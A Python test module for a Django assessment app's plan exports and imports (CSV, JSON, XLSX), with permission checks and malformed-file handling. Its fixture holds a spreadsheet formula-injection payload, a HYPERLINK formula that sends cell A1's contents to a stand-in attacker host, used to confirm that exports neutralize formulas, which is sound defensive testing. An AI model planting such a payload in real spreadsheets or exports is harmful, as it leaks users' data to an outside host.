"""The plan as CSV (tracker layout) and JSON, the assessment as an XLSX
workbook read back with openpyxl, and the CSV imported back."""

import csv
import datetime
import io
import json

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from assessor import services as assessor_services
from assessor.models import Answer
from assessor.plans import exports
from assessor.plans import services as plan_services
from assessor.plans.models import Action, ActionRevision
from tests.assessor.conftest import answer_all

HOSTILE = '=HYPERLINK("https://evil.example/?leak="&A1,"click me")'


@pytest.fixture
def assessment(personas, framework):
    assessment = assessor_services.assessment_start(
        organization=personas.org_a,
        framework=framework,
        title="Baseline",
        scope="both",
        targets={},
        user=personas.alice,
    )
    answer_all(assessment, personas.alice)
    return assessment


@pytest.fixture
def actions(assessment, personas):
    first, second = assessment.framework.parsed.dimensions[:2]
    return [
        plan_services.action_create(
            organization=personas.org_a,
            assessment=assessment,
            user=personas.alice,
            title="Write the rollback runbook",
            description=HOSTILE,
            dimension=first.key,
            question_keys=[first.questions[0].key],
            owner=personas.bob,
            due_date=datetime.date(2027, 1, 15),
            target_level=3,
        ),
        plan_services.action_create(
            organization=personas.org_a,
            assessment=assessment,
            user=personas.alice,
            title="-1 flaky test a week",
            dimension=second.key,
            question_keys=[],
            owner_name="Dana from Ops",
            status=Action.Status.DROPPED,
            dropped_reason="Replaced by the platform team's work",
        ),
    ]


def read_csv(data: bytes) -> list[dict[str, str]]:
    assert data.startswith("\ufeff".encode())
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


def test_the_plan_csv_has_the_trackers_columns_and_neutralizes_formulas(personas, actions, login):
    r = login(personas.carol).get(reverse("plans:export_csv", args=["acme"]))

    assert r.status_code == 200
    assert r["Content-Type"].startswith("text/csv")
    assert 'filename="acme-plan-' in r["Content-Disposition"]
    rows = read_csv(r.content)
    assert list(rows[0])[:5] == ["Summary", "Description", "Assignee", "Due date", "Labels"]
    runbook = next(row for row in rows if row["Summary"] == "Write the rollback runbook")
    assert runbook["Description"] == "'" + HOSTILE
    assert runbook["Assignee"] == "bob@example.org"
    assert runbook["Due date"] == "2027-01-15"
    assert (
        runbook["Labels"].split()[0] == "readiness-plan" and " " not in runbook["Labels"].split()[1]
    )
    assert runbook["Status"] == "To do" and runbook["Target level"] == "3"
    dropped = next(row for row in rows if row["Owner name"] == "Dana from Ops")
    assert dropped["Summary"] == "'-1 flaky test a week"
    assert dropped["Status"] == "Dropped: Replaced by the platform team's work"


def test_the_plan_json_has_every_field(personas, actions, assessment, login):
    r = login(personas.bob).get(
        reverse("plans:export_json", args=["acme"]) + f"?assessment={assessment.code}"
    )

    data = json.loads(r.content)
    assert data["format"] == "readiness-plan"
    first = next(a for a in data["actions"] if a["title"] == "Write the rollback runbook")
    assert first["description"] == HOSTILE  # JSON is for machines: kept as typed
    assert first["assignee"] == "bob@example.org"
    assert first["assessment"]["code"] == str(assessment.code)
    assert {a["id"] for a in data["actions"]} == {str(a.code) for a in actions}


def test_the_workbook_has_one_formatted_sheet_each(personas, actions, assessment, login):
    key = assessment.framework.parsed.scored_questions[0].key
    Answer.objects.filter(assessment=assessment, question_key=key).update(
        note=HOSTILE,
        evidence="https://wiki.example.org/ci",
        evidence_valid_until=timezone.localdate() - datetime.timedelta(days=2),
    )

    r = login(personas.carol).get(reverse("plans:assessment_xlsx", args=["acme", assessment.code]))

    assert r.status_code == 200
    assert 'filename="acme-baseline-' in r["Content-Disposition"]
    book = load_workbook(io.BytesIO(r.content))
    assert book.sheetnames == ["Answers", "Scores", "Roadmap", "Plan"]
    headers = {ws.title: [c.value for c in ws[1]] for ws in book.worksheets}
    assert headers["Answers"][:5] == [
        "Practice area",
        "Question key",
        "Question",
        "Level",
        "Answer",
    ]
    assert headers["Scores"][:4] == ["Kind", "Area", "Name", "Score (0-4)"]
    assert headers["Roadmap"] == ["Phase", "Months", "Practice area", "From", "To", "Next steps"]
    assert headers["Plan"][:6] == [
        "Summary",
        "Description",
        "Assignee",
        "Owner",
        "Due date",
        "Status",
    ]
    for ws in book.worksheets:
        assert ws.freeze_panes == "A2"
        assert ws["A1"].font.bold
        assert ws.column_dimensions["A"].width >= 14
    answers = book["Answers"]
    row = next(r for r in answers.iter_rows(min_row=2) if r[1].value == key)
    assert row[5].value == "'" + HOSTILE and row[5].data_type == "s"
    assert row[9].value == "expired"
    plan = book["Plan"]
    description = next(r[1] for r in plan.iter_rows(min_row=2) if r[0].value.endswith("runbook"))
    assert description.value == "'" + HOSTILE and description.data_type == "s"
    due = next(r[4] for r in plan.iter_rows(min_row=2) if r[0].value.endswith("runbook"))
    assert due.value == datetime.datetime(2027, 1, 15) and due.number_format == "yyyy-mm-dd"
    [validation] = plan.data_validations.dataValidation
    assert validation.type == "list"
    assert validation.formula1 == '"To do,Doing,Done,Dropped"'
    assert "F2" in str(validation.sqref)
    scores = book["Scores"]
    assert [r[0].value for r in scores.iter_rows(min_row=2)][:2] == ["Index", "Index"]
    no_formula = [
        c for ws in book.worksheets for r in ws.iter_rows() for c in r if c.data_type == "f"
    ]
    assert no_formula == []


def test_the_csv_comes_back_as_the_same_plan(personas, actions, assessment, framework, login):
    exported = login(personas.alice).get(reverse("plans:export_csv", args=["acme"])).content
    other = assessor_services.assessment_start(
        organization=personas.org_b,
        framework=framework,
        title="Bolt baseline",
        scope="both",
        targets={},
        user=personas.charlie,
    )
    # Bob is no member of Bolt: his row names him in words instead.
    text = exported.decode("utf-8-sig").replace("bob@example.org", "")

    created, updated = exports.plan_import(
        assessment=other, user=personas.charlie, data=text.encode()
    )

    assert (created, updated) == (2, 0)
    before = {a.title: a for a in actions}
    for action in Action.objects.filter(organization=personas.org_b):
        original = before[action.title]
        assert action.description == original.description
        assert (action.dimension, action.question_keys) == (
            original.dimension,
            original.question_keys,
        )
        assert (action.status, action.dropped_reason, action.due_date, action.target_level) == (
            original.status,
            original.dropped_reason,
            original.due_date,
            original.target_level,
        )
        assert action.assessment == other and action.created_by == personas.charlie
    imported = Action.objects.filter(organization=personas.org_b)
    assert imported.get(title="Write the rollback runbook").description == HOSTILE
    assert imported.filter(title="-1 flaky test a week").exists()


def test_importing_the_same_file_again_changes_nothing_and_an_edit_updates(
    personas, actions, assessment
):
    data = exports.plan_to_csv(exports.plan_actions(personas.org_a))

    assert exports.plan_import(assessment=assessment, user=personas.alice, data=data) == (0, 0)

    edited = data.decode("utf-8-sig").replace("To do", "Done").encode()
    assert exports.plan_import(assessment=assessment, user=personas.alice, data=edited) == (0, 1)
    runbook = Action.objects.get(title="Write the rollback runbook")
    assert runbook.status == Action.Status.DONE and runbook.closed_at is not None
    assert ActionRevision.objects.filter(action=runbook).count() == 2
    assert Action.objects.filter(organization=personas.org_a).count() == 2


def test_a_bad_file_says_what_is_wrong_per_row_and_writes_nothing(personas, assessment, login):
    key = assessment.framework.parsed.dimensions[0].key
    rows = [
        exports.CSV_HEADER,
        ["Good one", "", "", "2027-02-01", "", "To do", key, "", "", "", "", ""],
        ["", "", "stranger@example.com", "01/02/2027", "", "Maybe", "nope", "", "7", "", "", ""],
        ["Dropped silently", "", "", "", "", "Dropped", key, "q_unknown", "", "", "", ""],
    ]
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    upload = io.BytesIO(out.getvalue().encode())
    upload.name = "plan.csv"

    r = login(personas.alice).post(
        reverse("plans:import", args=["acme"]),
        {"assessment": str(assessment.code), "file": upload},
    )

    assert r.status_code == 422
    errors = r.context["errors"]
    assert any(e.startswith("Row 3: Summary is empty") for e in errors)
    assert any("Row 3: Assignee stranger@example.com is not a member" in e for e in errors)
    assert any("Row 3: Due date “01/02/2027”" in e for e in errors)
    assert any("Row 3: Status “Maybe”" in e for e in errors)
    assert any("Row 3: Practice area “nope”" in e for e in errors)
    assert any("Row 3: Target level “7”" in e for e in errors)
    assert any("Row 4: Status Dropped needs the reason" in e for e in errors)
    assert any("Row 4: Questions q_unknown" in e for e in errors)
    assert not any(e.startswith("Row 2") for e in errors)
    assert "Nothing was imported" in r.text
    assert not Action.objects.exists()


def test_a_good_upload_lands_on_the_plan(personas, assessment, login):
    key = assessment.framework.parsed.dimensions[0].key
    out = io.StringIO()
    csv.writer(out).writerows(
        [
            ["Title", "Body", "Assignee", "Due date", "Labels", "Practice area"],
            ["Add pipeline tests", "From the tracker", "BOB@example.org", "2027-02-01", "x", key],
        ]
    )
    upload = io.BytesIO(out.getvalue().encode())
    upload.name = "plan.csv"

    r = login(personas.alice).post(
        reverse("plans:import", args=["acme"]),
        {"assessment": str(assessment.code), "file": upload},
    )

    assert r.status_code == 302 and r.url == reverse("plans:plan", args=["acme"])
    action = Action.objects.get()
    assert (action.title, action.description, action.owner) == (
        "Add pipeline tests",
        "From the tracker",
        personas.bob,
    )


def test_viewers_and_participants_cannot_import(personas, assessment, login):
    for user in (personas.carol, personas.bob):
        client = login(user)
        assert client.get(reverse("plans:import", args=["acme"])).status_code == 403
        r = client.post(
            reverse("plans:import", args=["acme"]), {"assessment": str(assessment.code)}
        )
        assert r.status_code == 403


def test_charlie_gets_404_everywhere(personas, assessment, actions, login):
    client = login(personas.charlie)
    urls = [
        reverse("plans:export_csv", args=["acme"]),
        reverse("plans:export_json", args=["acme"]),
        reverse("plans:import", args=["acme"]),
        reverse("plans:assessment_xlsx", args=["acme", assessment.code]),
    ]
    for url in urls:
        assert client.get(url).status_code == 404, url


def test_another_organizations_assessment_is_a_404_in_an_export(
    personas, actions, other_assessment, login
):
    url = reverse("plans:export_csv", args=["acme"]) + f"?assessment={other_assessment.code}"

    assert login(personas.alice).get(url).status_code == 404
    assert (
        login(personas.alice)
        .get(reverse("plans:assessment_xlsx", args=["acme", other_assessment.code]))
        .status_code
        == 404
    )


def test_a_file_with_nul_bytes_is_refused_not_a_server_error(personas, assessment, login):
    # PostgreSQL refuses NUL in text: it must be an import error, not a 500.
    # A UTF-16 file without its byte-order mark reads as text full of NULs.
    key = assessment.framework.parsed.dimensions[0].key
    for data in (
        f"Summary,Practice area\nRoll\x00back,{key}\n".encode(),
        f"Summary,Practice area\nRollback,{key}\n".encode("utf-16-le"),
    ):
        upload = io.BytesIO(data)
        upload.name = "plan.csv"

        r = login(personas.alice).post(
            reverse("plans:import", args=["acme"]),
            {"assessment": str(assessment.code), "file": upload},
        )

        assert r.status_code == 422
        assert r.context["errors"] == ["The file is not UTF-8 text: save it as “CSV UTF-8”."]
    assert not Action.objects.exists()


def test_control_characters_typed_into_notes_and_titles_do_not_break_the_workbook(
    personas, actions, assessment, login
):
    # Forms take a vertical tab or an escape pasted from a terminal; XLSX (XML)
    # cannot hold them, and one such cell made the whole export a 500.
    key = assessment.framework.parsed.scored_questions[0].key
    Answer.objects.filter(assessment=assessment, question_key=key).update(note="ok\x0bnow\x1b")
    Action.objects.filter(pk=actions[0].pk).update(title="=Roll\x08back")
    assessment.title = "Baseline\x0c"
    assessment.save(update_fields=["title"])

    r = login(personas.carol).get(reverse("plans:assessment_xlsx", args=["acme", assessment.code]))

    assert r.status_code == 200
    book = load_workbook(io.BytesIO(r.content))
    answer = next(r for r in book["Answers"].iter_rows(min_row=2) if r[1].value == key)
    assert answer[5].value == "oknow"
    titles = [r[0].value for r in book["Plan"].iter_rows(min_row=2)]
    assert "'=Rollback" in titles


def test_an_action_on_the_delivery_profile_comes_back_from_its_own_export(
    personas, assessment, login
):
    # The wizard offers "Add action" on every question, the delivery profile's
    # too; the import refused the file the export had just written.
    profile = next(d for d in assessment.framework.parsed.dimensions if d.is_profile)
    client = login(personas.alice)
    client.post(
        reverse("plans:action_new", args=["acme"]),
        {
            "assessment": str(assessment.code),
            "title": "Measure lead time per team",
            "dimension": profile.key,
            "question_keys": [profile.questions[0].key],
            "status": "todo",
        },
    )
    action = Action.objects.get()
    upload = io.BytesIO(client.get(reverse("plans:export_csv", args=["acme"])).content)
    upload.name = "plan.csv"

    r = client.post(
        reverse("plans:import", args=["acme"]),
        {"assessment": str(assessment.code), "file": upload},
    )

    assert r.status_code == 302, r.context and r.context["errors"]
    assert Action.objects.get() == action
